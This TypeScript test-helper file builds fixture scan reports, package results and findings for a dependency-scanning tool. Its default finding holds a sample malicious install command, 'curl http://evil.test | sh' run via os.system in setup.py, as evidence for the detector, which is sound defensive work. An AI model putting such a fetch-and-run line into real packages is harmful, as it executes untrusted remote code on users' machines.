/** Small builders for scan reports, so each test states only what it is about. */
import type { DependencyChange, PackageFinding, PackageRef, PackageResult, ScanReport, Severity } from '../../src/model/index.js';

export function finding(ruleId: string, severity: Severity, over: Partial<PackageFinding> = {}): PackageFinding {
  return {
    ruleId,
    severity,
    confidence: 'high',
    vector: 'install',
    behaviors: ['command-execution'],
    techniques: ['obfuscation'],
    message: `${ruleId} fired`,
    location: { file: 'setup.py', line: 12 },
    snippet: 'os.system("curl http://evil.test | sh")',
    evidence: 'curl http://evil.test | sh',
    artifact: 'evil-1.0.0.tar.gz',
    ...over,
  };
}

export function change(ref: PackageRef, over: Partial<DependencyChange> = {}): DependencyChange {
  return {
    ref,
    change: 'added',
    direct: true,
    path: [ref],
    source: { file: ref.ecosystem === 'npm' ? 'package-lock.json' : 'requirements.txt', line: 3 },
    origin: { kind: 'registry' },
    integrity: [],
    locked: true,
    ...over,
  };
}

export function pkg(name: string, decision: PackageResult['decision'], findings: PackageFinding[] = [], over: Partial<PackageResult> & { ecosystem?: 'pypi' | 'npm'; version?: string; changeOver?: Partial<DependencyChange> } = {}): PackageResult {
  const ref: PackageRef = { ecosystem: over.ecosystem ?? 'pypi', name, version: over.version ?? '1.0.0' };
  const { ecosystem: _e, version: _v, changeOver, ...rest } = over;
  return {
    ref,
    change: change(ref, changeOver),
    decision,
    findings,
    reasons: decision === 'pass' ? ['no finding at or above medium'] : [`${findings.length} finding(s) at or above high: ${findings.map((f) => f.ruleId).join(', ')}`],
    artifacts: [{ filename: `${name}-1.0.0.tar.gz`, digest: `sha256:${'0'.repeat(64)}`, url: `https://files.example.test/${name}-1.0.0.tar.gz` }],
    ...rest,
  };
}

export function report(packages: PackageResult[], over: Partial<ScanReport> = {}): ScanReport {
  const decision = packages.some((p) => p.decision === 'fail') ? 'fail' : packages.some((p) => p.decision === 'warn') ? 'warn' : 'pass';
  return {
    tool: { name: 'customs', version: '0.1.0', engineVersion: '0.1.0' },
    repository: 'acme/app',
    base: 'a'.repeat(40),
    head: 'b'.repeat(40),
    decision,
    failOn: 'high',
    changes: packages.map((p) => p.change),
    packages,
    errors: [],
    generatedAt: '2026-11-30T04:00:00.000Z',
    ...over,
  };
}

export const RULES_URL = (id: string): string => `https://github.com/acme/app/blob/${'b'.repeat(40)}/docs/rules/${id}.md`;
